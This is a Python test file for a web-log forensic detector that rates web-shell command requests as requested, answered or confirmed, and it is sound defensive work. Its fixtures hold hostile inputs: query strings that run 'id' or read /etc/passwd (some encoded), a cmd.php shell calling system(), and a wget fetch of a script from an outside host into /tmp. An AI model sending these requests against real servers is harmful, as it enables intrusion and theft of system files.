# SPDX-License-Identifier: Apache-2.0
"""A scanner that got 404 is no intruder; only what the host itself confirms is execution."""

from __future__ import annotations

from typing import Any

import pytest
from memory_events import MemoryEvents, at

from headwater.detect import registry
from headwater.detect.detectors import web_command
from headwater.model.kinds import Confidence, EventKind, Severity
from headwater.model.ports import Settings

BAD = "203.0.113.7"
T = "2026-03-03 03:00:00"


def request(stem: str, query: str | None, status: int, ip: str = BAD, when: str | int = T, **more: Any) -> tuple:
    own = {"cs-method": "GET", "cs-uri-stem": stem, "cs-uri-query": query, "sc-status": status} | more
    return (EventKind.WEB_REQUEST, when, {"src_ip": ip, "fields": own})


def run(events: MemoryEvents, **settings: Any) -> list:
    return list(registry.run(web_command, events, Settings(**settings)))


def access(*requests: tuple) -> MemoryEvents:
    return MemoryEvents().say("web.access", "/var/log/nginx/access.log", *requests)


def with_script(events: MemoryEvents, parameter: str = "cmd") -> MemoryEvents:
    own = {"trait": "exec-of-request", "match": "system($c)", "parameter": parameter}
    return events.say(
        "web.script",
        "p1!/var/www/html/cmd.php",
        (EventKind.STATE_CONTENT, None, {"file_path": "/var/www/html/cmd.php", "fields": own}),
    )


def test_a_scanner_that_got_404_is_low_and_told_once() -> None:
    found = run(access(*[request(f"/{n}.php", "cmd=id", 404) for n in range(30)]))
    assert [f.severity for f in found] == [Severity.LOW]
    assert found[0].facts["reach"] == "requested"


def test_a_page_that_ignores_the_parameter_is_low() -> None:
    (found,) = run(access(request("/", "x=$(id)", 200)))
    assert found.severity == Severity.LOW
    assert found.facts["reach"] == "answered"


def test_an_answered_request_to_an_unknown_script_is_medium_at_most() -> None:
    (found,) = run(access(request("/tool.php", "cmd=id", 200)))
    assert found.severity == Severity.MEDIUM
    assert "不能认定" in found.text.zh


@pytest.mark.parametrize(
    "query", ["cmd=id", "cmd=cat%20%2Fetc%2Fpasswd", "cmd=cat%2520/etc/passwd", "cmd=Y2F0IC9ldGMvcGFzc3dk", "cmd=./x"]
)
def test_a_script_that_passes_the_parameter_to_a_shell_confirms(query: str) -> None:
    (found,) = run(with_script(access(request("/cmd.php", query, 200))))
    assert found.facts["reach"] == "confirmed"
    assert found.severity == Severity.HIGH
    assert found.confidence == Confidence.MEDIUM
    assert "推断" in found.text.zh
    assert any(c.claims.get("trait") == "exec-of-request" for c in found.spans)


def test_the_same_script_switched_off_was_only_requested() -> None:
    (found,) = run(with_script(access(request("/cmd.php", "cmd=id", 503))))
    assert found.severity == Severity.LOW


def test_another_parameter_than_the_script_reads_is_not_confirmed() -> None:
    (found,) = run(with_script(access(request("/cmd.php", "q=a;id", 200)), parameter="cmd"))
    assert found.facts["reach"] == "answered"


def test_a_process_of_the_web_account_confirms_with_high_confidence() -> None:
    events = with_script(access(request("/cmd.php", "cmd=uname+-a", 200)))
    events.say(
        "linux.audit",
        "/var/log/audit/audit.log",
        (
            EventKind.PROCESS_CREATE,
            at(T) - 1,
            {"user": "www-data", "fields": {"CommandLine": "/bin/sh -c uname -a", "uid": 33}},
        ),
        (
            EventKind.PROCESS_CREATE,
            at(T) - 1,
            {"user": "www-data", "fields": {"CommandLine": "php-fpm: pool", "uid": 33}},
        ),
    )
    (found,) = run(events)
    assert found.confidence == Confidence.HIGH
    assert found.facts["evidence"] == "script,process"
    assert [c.claims.get("CommandLine") for c in found.spans if "CommandLine" in c.claims] == ["/bin/sh -c uname -a"]


def test_a_dropped_file_that_the_command_names_confirms_without_the_script() -> None:
    events = access(request("/gone.php", "cmd=wget+http://203.0.113.9/s.sh+-O+/tmp/.s.sh", 200))
    events.say(
        "fs.macb",
        "p1",
        (
            EventKind.FILE_CREATED,
            at(T) + 3_000_000_000,
            {"file_path": "/tmp/.s.sh", "fields": {"size": 100, "uid": 33}},
        ),
        (
            EventKind.FILE_CREATED,
            at(T) + 3_000_000_000,
            {"file_path": "/tmp/sess_abc", "fields": {"size": 1, "uid": 33}},
        ),
    )
    (found,) = run(events)
    assert found.facts["reach"] == "confirmed"
    assert [c.claims["file_path"] for c in found.spans if "file_path" in c.claims] == ["/tmp/.s.sh"]


def test_the_client_behind_a_trusted_proxy_and_a_forged_header() -> None:
    forwarded = {"x-forwarded-for": "1.2.3.4, 203.0.113.9"}
    (believed,) = run(
        access(request("/a.php", "cmd=id", 404, "10.0.0.2", **forwarded)), trusted_proxies=("10.0.0.0/24",)
    )
    assert believed.src_ip == "203.0.113.9"
    assert believed.facts["peer_ip"] == "10.0.0.2"
    (kept,) = run(
        access(request("/a.php", "cmd=id", 404, "203.0.113.50", **forwarded)), trusted_proxies=("10.0.0.0/24",)
    )
    assert kept.src_ip == "203.0.113.50"
    assert kept.facts["forwarded_for"] == "1.2.3.4, 203.0.113.9"


def test_a_private_address_is_only_the_immediate_source() -> None:
    (found,) = run(access(request("/a.php", "cmd=id", 404, "192.168.1.100")))
    assert "直接来源，真实来源待查" in found.text.zh


def test_everyday_requests_say_nothing() -> None:
    everyday = [
        request("/search", "q=cat+food", 200),
        request("/index.php", "page=2&sort=price;desc", 200),
        request("/products.php", "id=3", 200),
        request("/", None, 200),
        request("/api", "redirect=%2Fa%3Bid%3D3", 200),
    ]
    assert run(with_script(access(*everyday))) == []
